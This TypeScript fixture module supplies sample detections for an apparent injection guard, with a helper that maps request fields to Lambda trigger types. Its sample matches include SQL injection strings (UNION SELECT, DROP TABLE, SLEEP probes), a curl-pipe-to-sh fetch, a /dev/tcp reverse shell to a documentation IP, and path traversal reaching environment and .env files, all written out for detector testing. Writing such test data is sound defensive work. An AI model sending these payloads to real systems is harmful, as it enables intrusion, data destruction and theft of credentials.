/** What the guard says of a match, beside where it was. */
export interface ViolationSample {
  readonly rule: string;
  readonly match: string;
  /** Encodings that were taken off, outermost first. */
  readonly decoded: readonly string[];
  readonly score: number;
}

const SAMPLES: Readonly<Record<string, readonly ViolationSample[]>> = {
  'sql-injection': [
    { rule: 'tautology', match: "0' OR '1'='1", decoded: [], score: 0.9 },
    {
      rule: 'union-select',
      match: '7 UNION SELECT NULL,login,NULL FROM accounts--',
      decoded: ['url'],
      score: 0.97,
    },
    { rule: 'stacked-statement', match: "x'; DROP TABLE invoices--", decoded: ['url', 'url'], score: 0.95 },
    {
      rule: 'dangerous-function',
      match: '7 AND (SELECT 8 FROM (SELECT(SLEEP(9)))a)',
      decoded: ['base64'],
      score: 0.94,
    },
  ],
  'shell-injection': [
    { rule: 'pipe-to-shell', match: 'x;curl 198.51.100.9/s|sh', decoded: ['url'], score: 0.95 },
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attacker's own text, where the shell expands the variable
    { rule: 'separator-variable', match: 'x;cat${IFS}/etc/passwd', decoded: [], score: 0.95 },
    {
      rule: 'network-device',
      match: 'bash -i >& /dev/tcp/198.51.100.9/443',
      decoded: ['base64'],
      score: 0.9,
    },
  ],
  'path-traversal': [
    { rule: 'many-dot-segments', match: '../../../../proc/self/environ', decoded: [], score: 0.95 },
    { rule: 'dot-segments', match: '..%2f..%2fvar/task/.env', decoded: ['url'], score: 0.9 },
  ],
};

const OTHER: ViolationSample = { rule: '', match: '', decoded: [], score: 0.5 };

/** A match of the detector; `turn` (a whole number) chooses among them, so that no randomness is used up. */
export function violationSample(detector: string, turn: number): ViolationSample {
  const own = SAMPLES[detector] ?? [];
  return own[Math.abs(Math.trunc(turn)) % Math.max(1, own.length)] ?? OTHER;
}

/** The trigger that a field belongs to: what has a query string or headers came through an API. */
export function triggerOf(field: string): string {
  if (/^(body|queryStringParameters|headers|pathParameters)\b/.test(field)) return 'api-gateway-rest';
  return field.startsWith('Records') ? 'sqs' : 'direct';
}
